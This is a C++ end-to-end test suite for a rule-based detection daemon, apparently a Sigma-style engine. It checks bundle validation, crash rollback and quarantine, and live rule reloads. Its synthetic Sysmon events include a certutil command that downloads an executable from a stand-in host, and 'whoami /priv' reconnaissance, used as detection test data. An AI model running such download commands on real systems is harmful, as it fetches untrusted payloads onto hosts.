// End to end: rule content against the vigild binary. The 21-fields case is refused by the
// CLI and the API while the pipeline keeps its bundle and loses nothing; a bundle that
// crashes the process (a test-only fault point) is rolled back after a crash during its
// rollout, and quarantined after a crash loop following its activation, the process
// coming back on the last known good bundle.

#include <algorithm>
#include <cstdlib>
#include <map>

#include "e2e/e2e_support.h"

namespace vigil {
namespace {

using e2e::AlertKey;
using e2e::wait_for;
namespace fs = std::filesystem;
using namespace std::chrono_literals;

const std::string kBundles = VIGIL_SOURCE_DIR "/tests/data/bundles/";
constexpr char kWhoamiPriv[] = "1fc0eb53-c7e0-4dbf-8eb6-dddb8f1a094e";    // default pack
constexpr char kCertutilPack[] = "600b4d6f-49fb-4e4b-a78d-6352d47d7b7f";  // default pack
constexpr char kCertutilGood[] = "6f0a2b7e-2d0d-4a4c-8d1b-5e2f3a1c9d22";  // tests/data/bundles/good

// A whoami /priv and a certutil download: both default-pack rules fire; the "good" bundle
// fires on the certutil one only (its whoami rule wants /all).
std::vector<std::string> events(const std::string& prefix, int n) {
  std::vector<std::string> out;
  for (int i = 0; i < n; ++i) {
    const std::string id = prefix + std::to_string(i);
    out.push_back(
        R"({"@timestamp":")" + e2e::now_rfc3339() +
        R"(","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
        id +
        R"(w","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /priv"})");
    out.push_back(
        R"({"@timestamp":")" + e2e::now_rfc3339() +
        R"(","Hostname":"WS-1","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"test_id":")" +
        id +
        R"(c","ParentImage":"C:\\Windows\\System32\\cmd.exe","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe"})");
  }
  return out;
}

std::set<AlertKey> default_pack_alerts(const std::string& prefix, int n) {
  std::set<AlertKey> out;
  for (int i = 0; i < n; ++i) {
    out.insert({kWhoamiPriv, prefix + std::to_string(i) + "w"});
    out.insert({kCertutilPack, prefix + std::to_string(i) + "c"});
  }
  return out;
}

class ContentTest : public e2e::VigildFixture {
 protected:
  std::string cli(const std::string& args, int* rc) {
    std::string output;
    *rc = test::run_command(std::string(VIGIL_CLI_PATH) + " " + args + " 2>&1", &output);
    return output;
  }
  std::string server_args(uint16_t port) {
    return "--server http://127.0.0.1:" + std::to_string(port) + " --token " + kAdminToken;
  }
  rapidjson::Document rollout(uint16_t port) {
    rapidjson::Document d;
    d.Parse(api_get(port, "/api/v1/rollout").body.c_str());
    return d;
  }
  void write_rollout_config(const std::string& policy) {
    config_file();
    std::ofstream(dir_ / "vigild.yml", std::ios::app)
        << "rollout:\n  policy: " << policy << "\n  stage_duration: 1s\n  crash_limit: 3\n";
  }
};

TEST_F(ContentTest, TheTwentyFirstFieldIsRefusedAndThePipelineKeepsItsBundle) {
  e2e::Broker broker(4);
  ASSERT_FALSE(broker.bootstrap().empty());
  std::unique_ptr<test::Subprocess> vigild;
  const uint16_t port = start(vigild, {"--kafka-brokers", broker.bootstrap(), "--workers", "2"});
  ASSERT_NE(port, 0) << log(1);
  ASSERT_TRUE(
      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
      << log(1);
  kcat_produce(broker.bootstrap(), events("a", 20));

  int rc = 0;
  std::string out = cli("bundle validate " + kBundles + "field21", &rc);
  EXPECT_EQ(rc, 1) << out;
  EXPECT_NE(out.find("unknown modifier 'field21'"), std::string::npos) << out;
  EXPECT_NE(out.find("REFUSED"), std::string::npos) << out;
  out = cli("bundle validate " + kBundles + "good", &rc);
  EXPECT_EQ(rc, 0) << out;

  out = cli("bundle push " + kBundles + "field21 " + server_args(port), &rc);
  EXPECT_EQ(rc, 1) << out;
  EXPECT_NE(out.find("HTTP 422"), std::string::npos) << out;
  EXPECT_NE(out.find("unknown modifier 'field21'"), std::string::npos) << out;
  auto st = rollout(port);
  ASSERT_FALSE(st.HasParseError());
  EXPECT_EQ(st["active"].GetUint64(), 1u);
  EXPECT_STREQ(st["state"].GetString(), "idle");
  const std::string list = api_get(port, "/api/v1/bundles").body;
  EXPECT_NE(list.find(R"("status":"refused")"), std::string::npos) << list;

  // A reader may look, not push.
  out = cli("bundle push " + kBundles + "good --server http://127.0.0.1:" + std::to_string(port) +
                " --token " + kReaderToken,
            &rc);
  EXPECT_EQ(rc, 1);
  EXPECT_NE(out.find("HTTP 403"), std::string::npos) << out;

  kcat_produce(broker.bootstrap(), events("b", 20));
  auto expected = default_pack_alerts("a", 20);
  const auto more = default_pack_alerts("b", 20);
  expected.insert(more.begin(), more.end());
  ASSERT_TRUE(wait_for([&] { return alerts(port).size() >= expected.size(); }, 30s)) << log(1);
  std::this_thread::sleep_for(500ms);
  const auto got = alerts(port);
  EXPECT_EQ(got.size(), expected.size());
  EXPECT_EQ(std::set<AlertKey>(got.begin(), got.end()), expected);

  // A dry run of the active bundle over the stored events finds what the pipeline found.
  out = cli("bundle dry-run 1 --since 30d --json " + server_args(port), &rc);
  ASSERT_EQ(rc, 0) << out;
  rapidjson::Document dry;
  dry.Parse(out.c_str());
  ASSERT_FALSE(dry.HasParseError()) << out;
  EXPECT_EQ(dry["events"].GetUint64(), 80u);
  EXPECT_EQ(dry["totals"]["active_matches"].GetUint64(), expected.size());
  EXPECT_EQ(dry["totals"]["gained"].GetUint64() + dry["totals"]["lost"].GetUint64(), 0u);
  out = cli("bundle dry-run 1 --since 30d " + server_args(port), &rc);  // for people
  ASSERT_EQ(rc, 0) << out;
  EXPECT_NE(out.find("over 80 stored events"), std::string::npos) << out;
  EXPECT_NE(out.find("(gained 0, lost 0)"), std::string::npos) << out;
  EXPECT_EQ(out.find('{'), std::string::npos) << out;
  out = cli("stats " + server_args(port), &rc);
  EXPECT_EQ(rc, 0) << out;
  EXPECT_NE(out.find("80 events"), std::string::npos) << out;
  EXPECT_NE(out.find("BUNDLE"), std::string::npos) << out;
  out = cli("rules active " + server_args(port), &rc);
  EXPECT_EQ(rc, 0) << out;
  const size_t row = out.find(kWhoamiPriv);
  ASSERT_NE(row, std::string::npos) << out;
  EXPECT_NE(out.substr(row, out.find('\n', row) - row).find(" 40 "), std::string::npos)
      << out;                                               // 40 matches
  out = cli("bundle dry-run 2 " + server_args(port), &rc);  // the refused one
  EXPECT_EQ(rc, 1);
  EXPECT_NE(out.find("HTTP 409"), std::string::npos) << out;
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
}

TEST_F(ContentTest, ACrashDuringARolloutAndACrashLoopComeBackOnTheLastKnownGood) {
  write_rollout_config("immediate");
  e2e::Broker broker(2);
  ASSERT_FALSE(broker.bootstrap().empty());
  const std::vector<std::string> flags = {"--kafka-brokers", broker.bootstrap(), "--workers", "2"};
  std::unique_ptr<test::Subprocess> vigild;

  // 1. The bundle crashes the process as a shard switches to it: the next start finds the
  //    rollout unfinished and rolls it back.
  ::setenv("VIGIL_FAULTS", "crash_after_activate=good", 1);
  uint16_t port = start(vigild, flags);
  ::unsetenv("VIGIL_FAULTS");
  ASSERT_NE(port, 0) << log(1);
  int rc = 0;
  std::string out = cli("bundle push " + kBundles + "good " + server_args(port), &rc);
  EXPECT_EQ(vigild->wait(30s), 134) << log(1);  // SIGABRT
  port = start(vigild, flags);
  ASSERT_NE(port, 0) << log(2);
  auto st = rollout(port);
  EXPECT_EQ(st["active"].GetUint64(), 1u) << log(2);
  EXPECT_NE(std::string(st["notice"].GetString()).find("ended abnormally during its rollout"),
            std::string::npos);
  EXPECT_NE(test::http_get("127.0.0.1", port, "/healthz").body.find("rolled back"),
            std::string::npos);

  // 2. Rolled out again (without the fault) it completes; the process stops cleanly.
  out = cli("rollout start 2 --reason retry " + server_args(port), &rc);
  EXPECT_EQ(rc, 0) << out;
  ASSERT_TRUE(wait_for([&] { return rollout(port)["active"].GetUint64() == 2; }, 30s)) << log(2);
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(2);

  // 3. Now every start with it dies: three deaths within the crash window, then the next
  //    start quarantines it and runs the last known good.
  ::setenv("VIGIL_FAULTS", "crash_after_activate=good", 1);
  for (int i = 0; i < 3; ++i) {
    port = start(vigild, flags);
    EXPECT_EQ(port, 0) << "start " << i << " should have died";
    EXPECT_EQ(vigild->wait(30s), 134) << log(runs_);
  }
  port = start(vigild, flags);
  ::unsetenv("VIGIL_FAULTS");
  ASSERT_NE(port, 0) << log(runs_);
  st = rollout(port);
  EXPECT_EQ(st["active"].GetUint64(), 1u);
  EXPECT_NE(std::string(st["notice"].GetString()).find("quarantined"), std::string::npos)
      << log(runs_);
  EXPECT_NE(log(runs_).find("bundle 2 quarantined"), std::string::npos) << log(runs_);
  const std::string health = test::http_get("127.0.0.1", port, "/healthz").body;
  EXPECT_NE(health.find("quarantined"), std::string::npos) << health;
  EXPECT_NE(api_get(port, "/api/v1/bundles/2").body.find(R"("status":"quarantined")"),
            std::string::npos);
  out = cli("rollout start 2 " + server_args(port), &rc);
  EXPECT_EQ(rc, 1) << out;
  EXPECT_NE(out.find("quarantined"), std::string::npos) << out;

  // The pipeline runs on the known good bundle and detects with it.
  ASSERT_TRUE(
      wait_for([&] { return test::http_get("127.0.0.1", port, "/readyz").status == 200; }, 30s))
      << log(runs_);
  kcat_produce(broker.bootstrap(), events("q", 5));
  const auto expected = default_pack_alerts("q", 5);
  ASSERT_TRUE(wait_for(
      [&] {
        const auto got = alerts(port);
        return std::set<AlertKey>(got.begin(), got.end()) == expected;
      },
      30s))
      << log(runs_);
  // The state for people (and --json for machines).
  out = cli("rollout status " + server_args(port), &rc);
  EXPECT_EQ(rc, 0) << out;
  EXPECT_NE(out.find("policy "), std::string::npos) << out;
  EXPECT_NE(out.find("active bundle "), std::string::npos) << out;
  EXPECT_NE(out.find("shards: "), std::string::npos) << out;
  EXPECT_EQ(out.find('{'), std::string::npos) << out;
  out = cli("rollout status --json " + server_args(port), &rc);
  EXPECT_EQ(rc, 0) << out;
  rapidjson::Document status;
  status.Parse(out.c_str());
  EXPECT_FALSE(status.HasParseError()) << out;
  out = cli("rollout audit --json " + server_args(port), &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_NE(out.find("\"quarantined\""), std::string::npos) << out;
  // For people: a line per transition, no JSON.
  out = cli("rollout audit " + server_args(port), &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_NE(out.find("quarantined"), std::string::npos) << out;
  EXPECT_EQ(out.find('{'), std::string::npos) << out;
  out = cli("bundle show 1 " + server_args(port), &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_NE(out.find("validation: "), std::string::npos) << out;
  EXPECT_EQ(out.find('{'), std::string::npos) << out;
  out = cli("bundle list " + server_args(port), &rc);
  EXPECT_EQ(rc, 0);
  EXPECT_NE(out.find("VERSION"), std::string::npos) << out;
  EXPECT_NE(out.find("active"), std::string::npos) << out;
  EXPECT_EQ(out.find('{'), std::string::npos) << out;
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(runs_);
}

// Rule files in a directory swapped the way the kubelet updates a mounted ConfigMap (new
// files in a fresh hidden directory, the `..data` link renamed over the old one): the running
// vigild submits them as a bundle and rolls it out by its policy, no restart; a swap whose
// rules do not validate (two files with one id) is refused and the running bundle stays.
TEST_F(ContentTest, RuleFilesSwappedLikeAConfigMapUpdateAreRolledOutWithoutARestart) {
  write_rollout_config("immediate");
  std::ofstream(dir_ / "vigild.yml", std::ios::app) << "rules_watch: 200ms\n";
  const fs::path cm = dir_ / "configmap";
  int generation = 0;
  auto swap = [&](const std::map<std::string, std::string>& files) {
    const std::string data = "..2026_12_07_04_00_00." + std::to_string(++generation);
    fs::create_directories(cm / data);
    for (const auto& [name, content] : files) std::ofstream(cm / data / name) << content;
    fs::create_directory_symlink(data, cm / "..data_tmp");
    fs::rename(cm / "..data_tmp", cm / "..data");
    for (const auto& [name, content] : files)
      if (!fs::is_symlink(cm / name)) fs::create_symlink(fs::path("..data") / name, cm / name);
  };
  const std::string rule =
      "title: Whoami by the ConfigMap\nid: 5d8a7a40-0c1f-4c4e-9d0e-2a1f5b6c7d01\n"
      "logsource: {category: process_creation, product: windows}\n"
      "detection:\n  sel: {Image|endswith: '\\whoami.exe'}\n  condition: sel\nlevel: low\n";
  swap({{"cm-whoami.yml", rule}});

  e2e::Broker broker(2);
  ASSERT_FALSE(broker.bootstrap().empty());
  std::unique_ptr<test::Subprocess> vigild;
  const uint16_t port = start(
      vigild, {"--kafka-brokers", broker.bootstrap(), "--workers", "2", "--rules", cm.string()});
  ASSERT_NE(port, 0) << log(1);
  EXPECT_EQ(rollout(port)["active"].GetUint64(), 1u);

  // The update: the rule raised to high. Bundle 2, rolled out (immediate), same process.
  swap({{"cm-whoami.yml", std::string(rule).replace(rule.find("level: low"), 10, "level: high")}});
  ASSERT_TRUE(wait_for([&] { return rollout(port)["active"].GetUint64() == 2; }, 30s)) << log(1);
  EXPECT_NE(log(1).find("rules watch: the configured rules changed: bundle 2"), std::string::npos);
  kcat_produce(broker.bootstrap(), events("cm", 1));
  ASSERT_TRUE(wait_for(
      [&] {
        const auto all = alerts(port);
        return std::find(all.begin(), all.end(),
                         AlertKey{"5d8a7a40-0c1f-4c4e-9d0e-2a1f5b6c7d01", "cm0w"}) != all.end();
      },
      30s))
      << log(1);

  // A broken update: a copied rule that kept its id. Refused; bundle 2 keeps running.
  swap({{"cm-whoami.yml", rule}, {"cm-copy.yml", rule}});
  ASSERT_TRUE(wait_for(
      [&] {
        return test::http_get("127.0.0.1", port, "/metrics")
                   .body.find("vigil_rules_watch_submissions_total{outcome=\"refused\"} 1") !=
               std::string::npos;
      },
      30s))
      << log(1);
  EXPECT_NE(log(1).find("is used by another rule of the bundle"), std::string::npos) << log(1);
  EXPECT_EQ(rollout(port)["active"].GetUint64(), 2u);
  vigild->signal(SIGTERM);
  EXPECT_EQ(vigild->wait(30s), 0) << log(1);
}

}  // namespace
}  // namespace vigil
